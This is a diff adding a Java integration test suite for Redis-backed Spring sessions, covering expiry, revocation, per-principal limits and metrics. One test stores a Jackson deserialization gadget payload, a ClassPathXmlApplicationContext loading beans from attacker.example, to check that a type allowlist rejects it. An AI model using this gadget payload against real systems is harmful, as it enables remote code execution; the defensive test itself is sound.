@@ -1,0 +1,231 @@
+package dev.redisboot.session;
+
+import java.net.http.HttpResponse;
+import java.time.Duration;
+import java.util.List;
+import java.util.UUID;
+
+import dev.redisboot.test.RedisDeployment;
+import io.micrometer.core.instrument.Counter;
+import io.micrometer.core.instrument.MeterRegistry;
+import org.junit.jupiter.api.Test;
+
+import org.springframework.context.ConfigurableApplicationContext;
+import org.springframework.data.redis.core.StringRedisTemplate;
+
+import static dev.redisboot.session.SessionInstances.get;
+import static dev.redisboot.session.SessionInstances.login;
+import static dev.redisboot.session.SessionInstances.post;
+import static dev.redisboot.session.SessionInstances.sessionId;
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.awaitility.Awaitility.await;
+
+/**
+ * Sessions on real Redis, run on each topology: shared between instances, sliding expiry,
+ * unreadable sessions, sign out everywhere, the principal index, the maximum per principal
+ * and the counters.
+ */
+abstract class AbstractSessionIntegrationTests {
+
+	protected abstract RedisDeployment redis();
+
+	protected static String newPrefix() {
+		return "sess-" + UUID.randomUUID().toString().substring(0, 8);
+	}
+
+	@Test
+	void aSessionStartedOnOneInstanceIsSeenByAnother() {
+		String prefix = newPrefix();
+		try (ConfigurableApplicationContext a = SessionInstances.start(redis(), prefix);
+				ConfigurableApplicationContext b = SessionInstances.start(redis(), prefix)) {
+			String cookie = login(a, "ada");
+			HttpResponse<String> me = get(b, "/me", cookie);
+			assertThat(me.statusCode()).isEqualTo(200);
+			assertThat(me.body()).isEqualTo("ada");
+			assertThat(post(b, "/visits", cookie).body()).isEqualTo("1");
+			assertThat(post(a, "/visits", cookie).body()).isEqualTo("2");
+			assertThat(counter(a, "redisboot.sessions.creations").count()).isEqualTo(1);
+		}
+	}
+
+	@Test
+	void expirySlidesWithEveryRequestAndTheSessionEndsAfterInactivity() {
+		try (ConfigurableApplicationContext a = SessionInstances.start(redis(), newPrefix(),
+				"spring.session.timeout=3s")) {
+			String cookie = login(a, "ada");
+			String key = repository(a).sessionKey(sessionId(cookie));
+			StringRedisTemplate redis = a.getBean(StringRedisTemplate.class);
+			assertThat(redis.getExpire(key, java.util.concurrent.TimeUnit.MILLISECONDS)).isBetween(1L, 3000L);
+			await().atMost(Duration.ofSeconds(5))
+				.until(() -> redis.getExpire(key, java.util.concurrent.TimeUnit.MILLISECONDS) < 1500);
+			String lastAccessed = (String) redis.opsForHash().get(key, "lastAccessedTime");
+			assertThat(get(a, "/me", cookie).statusCode()).isEqualTo(200);
+			assertThat(redis.getExpire(key, java.util.concurrent.TimeUnit.MILLISECONDS)).as("slid").isGreaterThan(2000);
+			assertThat((String) redis.opsForHash().get(key, "lastAccessedTime")).isNotEqualTo(lastAccessed);
+			await().atMost(Duration.ofSeconds(6)).until(() -> !redis.hasKey(key));
+			assertThat(get(a, "/me", cookie).statusCode()).isEqualTo(401);
+		}
+	}
+
+	@Test
+	void corruptBytesGiveANewSessionNotAnError() {
+		assertUnreadable("{not json", "corrupt");
+	}
+
+	@Test
+	void anAttributeWhoseClassChangedGivesANewSession() {
+		assertUnreadable("{\"@class\":\"dev.redisboot.session.SessionTestApplication$Profile\",\"name\":\"ada\","
+				+ "\"roles\":[\"java.util.ArrayList\",[]],\"age\":36}", "class-changed");
+	}
+
+	@Test
+	void anAttributeOfATypeOutsideTheAllowlistGivesANewSession() {
+		assertUnreadable("{\"@class\":\"org.springframework.context.support.ClassPathXmlApplicationContext\","
+				+ "\"configLocation\":\"http://attacker.example/beans.xml\"}", "type-not-allowed");
+	}
+
+	private void assertUnreadable(String storedProfile, String cause) {
+		try (ConfigurableApplicationContext a = SessionInstances.start(redis(), newPrefix())) {
+			String cookie = login(a, "ada");
+			String key = repository(a).sessionKey(sessionId(cookie));
+			a.getBean(StringRedisTemplate.class).opsForHash().put(key, "sessionAttr:profile", storedProfile);
+			assertThat(get(a, "/me", cookie).statusCode()).isEqualTo(401);
+			HttpResponse<String> visit = post(a, "/visits", cookie);
+			assertThat(visit.statusCode()).isEqualTo(200);
+			assertThat(visit.body()).isEqualTo("1");
+			assertThat(SessionInstances.cookie(visit)).hasValueSatisfying((fresh) -> assertThat(fresh).isNotEqualTo(cookie));
+			assertThat(registry(a).get("redisboot.sessions.deserialization.failures").tag("cause", cause).counter().count())
+				.isEqualTo(2);
+		}
+	}
+
+	@Test
+	void signingOutEverywhereEndsEverySessionOfThePrincipalOnEveryInstance() {
+		String prefix = newPrefix();
+		try (ConfigurableApplicationContext a = SessionInstances.start(redis(), prefix);
+				ConfigurableApplicationContext b = SessionInstances.start(redis(), prefix)) {
+			List<String> ada = List.of(login(a, "ada"), login(a, "ada"), login(b, "ada"));
+			String grace = login(b, "grace");
+			assertThat(repository(b).findSessions("ada")).extracting(SessionSummary::id)
+				.containsExactlyInAnyOrderElementsOf(ada.stream().map(SessionInstances::sessionId).toList());
+			HttpResponse<String> revoked = post(b, "/logout-everywhere?user=ada", null);
+			assertThat(revoked.body()).isEqualTo("{\"revoked\":3}");
+			for (String cookie : ada) {
+				assertThat(get(a, "/me", cookie).statusCode()).isEqualTo(401);
+				assertThat(get(b, "/me", cookie).statusCode()).isEqualTo(401);
+			}
+			assertThat(get(a, "/me", grace).statusCode()).isEqualTo(200);
+			StringRedisTemplate redis = a.getBean(StringRedisTemplate.class);
+			assertThat(redis.hasKey(repository(a).principalKey(RedisbootSessionRepository.digest("ada")))).isFalse();
+			assertThat(redis.opsForZSet().size(repository(a).expirationsKey())).isEqualTo(1);
+			assertThat(registry(b).get("redisboot.sessions.revoked").tag("reason", "revoked").counter().count())
+				.isEqualTo(3);
+		}
+	}
+
+	@Test
+	void theRequestOfARevokedSessionDoesNotBringItBack() {
+		try (ConfigurableApplicationContext a = SessionInstances.start(redis(), newPrefix())) {
+			String cookie = login(a, "ada");
+			RedisbootSessionRepository repository = repository(a);
+			RedisbootSessionRepository.RedisbootSession inFlight = repository.findById(sessionId(cookie));
+			assertThat(repository.revokeSessions("ada")).isEqualTo(1);
+			inFlight.setAttribute("visits", 5);
+			repository.save(inFlight);
+			assertThat(inFlight.isGone()).isTrue();
+			assertThat(repository.findById(sessionId(cookie))).isNull();
+		}
+	}
+
+	@Test
+	void thePrincipalIndexOutlivesSessionsInUseAndGoesAwayWithThem() {
+		try (ConfigurableApplicationContext a = SessionInstances.start(redis(), newPrefix(),
+				"spring.session.timeout=2s")) {
+			RedisbootSessionRepository repository = repository(a);
+			StringRedisTemplate redis = a.getBean(StringRedisTemplate.class);
+			String index = repository.principalKey(RedisbootSessionRepository.digest("ada"));
+			String kept = login(a, "ada");
+			String abandoned = login(a, "ada");
+			String key = repository.sessionKey(sessionId(kept));
+			long indexTtl = redis.getExpire(index, java.util.concurrent.TimeUnit.MILLISECONDS);
+			assertThat(indexTtl).isBetween(2000L, 4000L);
+			// keep one session in use for longer than the index was first meant to live
+			for (int i = 0; i < 4; i++) {
+				await().atMost(Duration.ofSeconds(3))
+					.until(() -> redis.getExpire(key, java.util.concurrent.TimeUnit.MILLISECONDS) < 1200);
+				assertThat(get(a, "/me", kept).statusCode()).isEqualTo(200);
+			}
+			assertThat(redis.hasKey(repository.sessionKey(sessionId(abandoned)))).isFalse();
+			assertThat(repository.findSessions("ada")).extracting(SessionSummary::id)
+				.containsExactly(sessionId(kept));
+			assertThat(redis.opsForZSet().size(index)).as("expired member pruned").isEqualTo(1);
+			// once the last session expires without any event, the index expires too
+			await().atMost(Duration.ofSeconds(10)).until(() -> !redis.hasKey(index));
+		}
+	}
+
+	@Test
+	void signingInOverTheMaximumRevokesTheOldestSession() {
+		try (ConfigurableApplicationContext a = SessionInstances.start(redis(), newPrefix(),
+				"redisboot.session.max-sessions-per-principal=2")) {
+			String first = login(a, "ada");
+			String second = login(a, "ada");
+			String third = login(a, "ada");
+			assertThat(get(a, "/me", first).statusCode()).isEqualTo(401);
+			assertThat(get(a, "/me", second).statusCode()).isEqualTo(200);
+			assertThat(get(a, "/me", third).statusCode()).isEqualTo(200);
+			assertThat(repository(a).findSessions("ada")).hasSize(2);
+			assertThat(registry(a).get("redisboot.sessions.revoked").tag("reason", "max-sessions").counter().count())
+				.isEqualTo(1);
+		}
+	}
+
+	@Test
+	void loggingOutDeletesTheSession() {
+		try (ConfigurableApplicationContext a = SessionInstances.start(redis(), newPrefix())) {
+			String cookie = login(a, "ada");
+			assertThat(post(a, "/logout", cookie).statusCode()).isEqualTo(204);
+			assertThat(get(a, "/me", cookie).statusCode()).isEqualTo(401);
+			assertThat(a.getBean(StringRedisTemplate.class).hasKey(repository(a).sessionKey(sessionId(cookie))))
+				.isFalse();
+			assertThat(counter(a, "redisboot.sessions.invalidated").count()).isEqualTo(1);
+		}
+	}
+
+	@Test
+	void expiredSessionsAreCountedOnceAcrossInstancesAndTheActiveGaugeFollows() {
+		String prefix = newPrefix();
+		try (ConfigurableApplicationContext a = SessionInstances.start(redis(), prefix, "spring.session.timeout=1s");
+				ConfigurableApplicationContext b = SessionInstances.start(redis(), prefix,
+						"spring.session.timeout=1s")) {
+			String ada = login(a, "ada");
+			login(b, "grace");
+			login(b, "grace");
+			repository(a).cleanUpExpiredSessions();
+			assertThat(registry(a).get("redisboot.sessions.active").gauge().value()).isEqualTo(3);
+			StringRedisTemplate redis = a.getBean(StringRedisTemplate.class);
+			await().atMost(Duration.ofSeconds(5)).until(() -> !redis.hasKey(repository(a).sessionKey(sessionId(ada))));
+			await().atMost(Duration.ofSeconds(5))
+				.until(() -> redis.keys(prefix + ":session:sessions:*").isEmpty());
+			int byA = repository(a).cleanUpExpiredSessions();
+			int byB = repository(b).cleanUpExpiredSessions();
+			assertThat(byA + byB).isEqualTo(3);
+			assertThat(counter(a, "redisboot.sessions.expired").count() + counter(b, "redisboot.sessions.expired").count())
+				.isEqualTo(3);
+			assertThat(registry(b).get("redisboot.sessions.active").gauge().value()).isZero();
+		}
+	}
+
+	static RedisbootSessionRepository repository(ConfigurableApplicationContext context) {
+		return SessionInstances.repository(context);
+	}
+
+	static MeterRegistry registry(ConfigurableApplicationContext context) {
+		return context.getBean(MeterRegistry.class);
+	}
+
+	static Counter counter(ConfigurableApplicationContext context, String name) {
+		return registry(context).get(name).counter();
+	}
+
+}
